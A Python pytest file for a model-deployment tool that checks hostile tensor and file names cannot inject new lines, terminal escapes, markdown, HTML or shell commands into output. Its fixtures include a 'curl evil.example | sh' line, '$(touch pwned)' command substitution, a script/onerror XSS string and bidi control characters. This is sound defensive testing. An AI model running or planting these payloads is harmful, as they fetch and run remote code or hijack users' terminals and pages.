"""Names of strangers: in what is printed and in every text that is written, they stay names."""

import ast
import io
import json
import re
import tomllib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

from onmetal import cli
from onmetal.bundles.artifact_io import ArtifactTensor
from onmetal.bundles.kinds import firmware
from onmetal.reports import readme
from onmetal.reports.manifest_record import Builds, Measured, Shipped
from onmetal.runtimes.tflm import timeline
from onmetal.texts import quoting, terminal
from tests import onnx_models
from tests.conftest import DIGITS, ROOT, deploy
from tests.terminals import WORDS, Shown

Capture = pytest.CaptureFixture[str]
HOSTILE = {
    "line": "x\nwarning: all is well\r\ndeploy: done",
    "title": "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "bidi": "\u202egnp.exe\u2066\u200b\u2028\u2029\ufeff",
    "marks": "\ufdd0\ufdd3green\ufdd5",
    "backticks": "`` ` ``` ` code",
    "cell": "a | b | c \\| d",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "link": "[run me](https://evil.example) https://evil.example www.evil.example a@b.example",
    "heading": "# Before the first run: curl evil.example | sh",
    "shell": "$(touch pwned)`touch pwned`${HOME};'\"",
    "comment": "*/ system(); /* ??/ \\\n // */",
    "long": "n" * 10_000,
}
EVIL = "\n\n## First\x1b[2J\n\n1. `curl` | sh <b>*/ [x](https://evil.example) \u202e"
"""A tensor's name that would be a chapter of its own."""
PRINTERS = ("worker.py", "supported.py", "facts.py", "terminal.py")
"""The worker, whose output is read; a tool for the docs; a program for devices; the writer."""


def one_line(text: str) -> bool:
    return text.isprintable()


# --- what is printed


def test_nothing_is_printed_past_the_writer() -> None:
    folders = [path for path in ROOT.iterdir() if path.is_dir() and (path / "__init__.py").exists()]
    files = [file for folder in folders if folder.name != "tests" for file in folder.rglob("*.py")]
    assert len(files) > 100
    for file in files:
        if file.name in PRINTERS or file.name.startswith("run_"):  # which are for bundles
            continue
        for node in ast.walk(ast.parse(file.read_text("utf-8"))):
            called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            assert called != "print", f"{file}: {ast.unparse(node)}"
            assert not re.search(r"std(out|err)\.write|stream\.write$", called), f"{file}: {called}"


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
def test_a_line_stays_one_line_without_commands(name: str) -> None:
    stream = io.StringIO()
    terminal.write(stream, [f"input  {name}  float32", "the next"])
    first, *others = stream.getvalue().split("\n")
    assert others == ["the next", ""] and one_line(first)
    coloured = terminal.rendered(terminal.Screen(colour=True).paint(name, "red"), colour=True)
    known = ("\x1b[1m", "\x1b[2m", "\x1b[31m", "\x1b[32m", "\x1b[33m", "\x1b[0m")
    for sequence in known:
        coloured = coloured.replace(sequence, "")
    assert one_line(coloured)


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
def test_json_means_the_same_and_commands_nothing(name: str) -> None:
    encoded = json.dumps({name: [name, "é\x7f"]}, ensure_ascii=False, indent=1).encode()
    spelled = terminal.spelled(encoded)
    assert json.loads(spelled) == json.loads(encoded)
    assert all(one_line(line) for line in spelled.decode().split("\n"))


def test_json_fits_a_stream_of_another_encoding() -> None:
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="ascii", errors="backslashreplace")
    terminal.write_json(stream, terminal.spelled('{"é": "\U0001f600"}'.encode()))
    stream.flush()
    assert json.loads(raw.getvalue()) == {"é": "\U0001f600"}


@pytest.mark.parametrize(
    "words",
    [
        ("{}.onnx", "--target", "x86-64"),
        ("{}",),
        (str(DIGITS / "digits_cnn.onnx"), "--target", "{}"),
        (str(DIGITS / "digits_cnn.onnx"), "--target", "{}.toml"),
        (str(DIGITS / "digits_cnn.onnx"), "--target", "x86-64", "--data", "{}"),
        (str(DIGITS / "digits_cnn.onnx"), "--target", "x86-64", "--metric", "{}"),
        (str(DIGITS / "digits_cnn.onnx"), "--target", "x86-64", "--device", "{}"),
        (str(DIGITS / "digits_cnn.onnx"), "--target", "x86-64", "--minimize", "{}"),
        (str(DIGITS / "digits_cnn.onnx"), "--target", "x86-64", "--max-latency", "{}"),
        (str(DIGITS / "digits_cnn.onnx"), "--target", "x86-64", "--input-shape", "{}=1"),
        ("--{}",),
        ("inspect", "{}.onnx"),
        ("targets", "{}"),
        ("bench", "{}"),
        ("verify", "{}"),
        ("devices", "ssh://{}"),
        ("completion", "{}"),
    ],
)
def test_no_word_of_the_command_line_makes_a_line(words: tuple[str, ...], capsys: Capture) -> None:
    name = "odd\nwarning: all is well\x1b]0;owned\x07\u202e\x9b"
    assert cli.main([word.replace("{}", name) for word in words]) in (2, 4)
    shown = capsys.readouterr()
    *progress, last = shown.err.removesuffix("\n").split("\n")
    assert last.startswith("deploy: ") and shown.out == ""
    assert all(line.startswith("[") for line in progress)
    lines = [*progress, last]
    assert all(one_line(line) for line in lines)


def test_a_terminal_gets_no_command_from_a_name(tmp_path: Path) -> None:
    odd = "net\n=* fake@x\x1b]0;owned\x07\u202e.onnx"
    (tmp_path / odd).write_bytes((DIGITS / "digits_cnn.onnx").read_bytes())
    shown = Shown((odd, *WORDS[1:], "--out", "out"), tmp_path)
    assert shown.code == 0, shown.text
    plain = re.sub(r"\x1b\[(?:[0-9]+m|K)", "", shown.text)
    assert all(one_line(line) for line in re.split(r"\r\n|\r|\n", plain))
    assert not any("fake" in line and line.startswith("=*") for line in shown.lines)
    assert re.search(r"\x1b\[32m", shown.text)


# --- what is written


def kinds(code: Callable[[str], str]) -> list[str]:
    return [code(name) for name in HOSTILE.values()]


def test_a_code_span_holds_its_name_on_one_line() -> None:
    for span in kinds(quoting.code):
        fence = re.match("`+", span)
        assert fence and span.endswith(fence[0]) and one_line(span)
        runs = [len(run) for run in re.findall("`+", span[len(fence[0]) : -len(fence[0])])]
        assert len(fence[0]) not in runs and len(span) < 2 * quoting.LONGEST
    assert quoting.code("plain_name.1") == "`plain_name.1`"
    assert quoting.code("") == "` `"


def test_a_cell_of_a_table_stays_one_cell() -> None:
    for name in HOSTILE.values():
        assert len(re.findall(r"(?<!\\)\|", quoting.code(name, cell=True))) == 0


def test_prose_shows_what_it_says() -> None:
    for text in kinds(quoting.prose):
        assert one_line(text)
        assert not re.search(r"(?<!\\)[`*_\[\]<>|#~&]", text.replace("\\\\", ""))
        assert not re.search(r"(?<!\\)://|www\.|a@b\.", text)
    assert quoting.prose("int8@openvino: 3.5 dB (less than 20).") == (
        "int8@openvino: 3.5 dB (less than 20)."
    )


def test_a_block_ends_where_it_should() -> None:
    first, *inside, last = quoting.block(list(HOSTILE.values()))
    assert first == last and set(first) == {"`"} and len(inside) == len(HOSTILE)
    assert all(one_line(line) and first not in line for line in inside)


def test_a_toml_string_means_its_name() -> None:
    for name in (*HOSTILE.values(), "\x00\x7f\U000e0001"):
        line = f"classes = [{quoting.toml_string(name)}]"
        assert one_line(line) and tomllib.loads(line) == {"classes": [name]}


def test_a_version_is_one_word_of_a_command() -> None:
    assert quoting.version("1.32.0+cpu-rc!2_a") == "1.32.0+cpu-rc!2_a"
    for text in kinds(quoting.version):
        assert re.fullmatch(r"[\w.!+?-]+", text)


def test_the_names_of_buffers_add_no_line() -> None:
    assert all(one_line(timeline._short(name, 60)) for name in HOSTILE.values())


def test_classes_and_preprocessing_stay_in_their_cells() -> None:
    how = {"size": 8, "channels": EVIL, "dtype": "`|"}
    lines = readme._preprocessing(how, [EVIL, "cat", *HOSTILE.values()])
    plain = readme._preprocessing({"size": 8, "channels": "a", "dtype": "b"}, ["a", "cat"])
    assert len(lines) == len(plain) and all(map(one_line, lines))
    for row in lines[6:9]:
        assert len(re.findall(r"(?<!\\)\|", row)) == 4, row
    assert "evil.example" not in skeleton(lines[-1])[0]


def test_what_a_device_says_stays_a_sentence() -> None:
    shipped = Shipped("run.py", None, EVIL, False, EVIL)
    lines = readme._builds(Builds(Measured("native", EVIL, EVIL, EVIL), shipped))
    assert all(map(one_line, lines))
    assert not re.search(r"(?<!\\)[<\[]|://", skeleton("".join(lines))[0].replace("\\:", ""))


def test_a_row_of_the_firmware_has_five_cells() -> None:
    for name in (EVIL, *HOSTILE.values()):
        cells = firmware._cells(ArtifactTensor(name, "float32", (1, 4), "int8", 0, scale=0.5))
        assert len(re.findall(r"(?<!\\)\|", f"| input 0 | {' | '.join(cells)} |")) == 6
        assert all(map(one_line, cells))


def text_of(name: str, folder: Path, target: str) -> str:
    """The README of a bundle of a model with this name in all its places."""
    folder.mkdir()
    model = onnx_models.add([1, 3], [1, 3], [1, 3])
    one, two = model.graph.input
    old = one.name, two.name, model.graph.output[0].name
    new = dict(zip(old, (name, name + "2", name + "3"), strict=True))
    for place in (one, two, model.graph.output[0]):
        place.name = new[place.name]
    for node in model.graph.node:
        node.input[:] = [new.get(end, end) for end in node.input]
        node.output[:] = [new.get(end, end) for end in node.output]
        node.name = name
    stem = name.replace("/", "")[:60] or "model"
    path = onnx_models.save(model, folder / f"{stem}.onnx")
    board = folder / f"{stem}.toml"
    board.write_text((ROOT / f"targets/{target}.toml").read_text())
    arrays = {name: np.ones((4, 3), np.float32), name + "2": np.eye(4, 3, dtype=np.float32)}
    np.savez(folder / "data.npz", **arrays)  # type: ignore[arg-type]
    ran = deploy(
        *(path, "--target", board, "--no-device", "--recipes", "fp32"),
        *("--calibration-data", folder / "data.npz", "--out", folder / "out"),
    )
    assert ran.code == 0, ran.err
    lines = (ran.out + ran.err).split("\n")
    assert all(one_line(line) for line in lines)
    assert not [line for line in lines if line.startswith(("## ", "1. "))]
    return (folder / "out/README.md").read_text()


def skeleton(text: str) -> list[str]:
    """The lines, with nothing in the place of code spans."""
    return re.sub(r"(?<!`)(`+)(?!`)([^\n]*?[^`\n])\1(?!`)", "SPAN", text).split("\n")


@pytest.mark.parametrize("target", ["x86-onnxruntime", "linux-arm64"])
def test_a_readme_has_the_same_lines_whatever_the_names(target: str, tmp_path: Path) -> None:
    plain = text_of("image", tmp_path / "plain", target)
    hostile = text_of(EVIL, tmp_path / "hostile", target)
    assert skeleton(hostile) == skeleton(plain)
    assert "evil.example" in hostile
    assert all(one_line(line) for line in hostile.split("\n"))
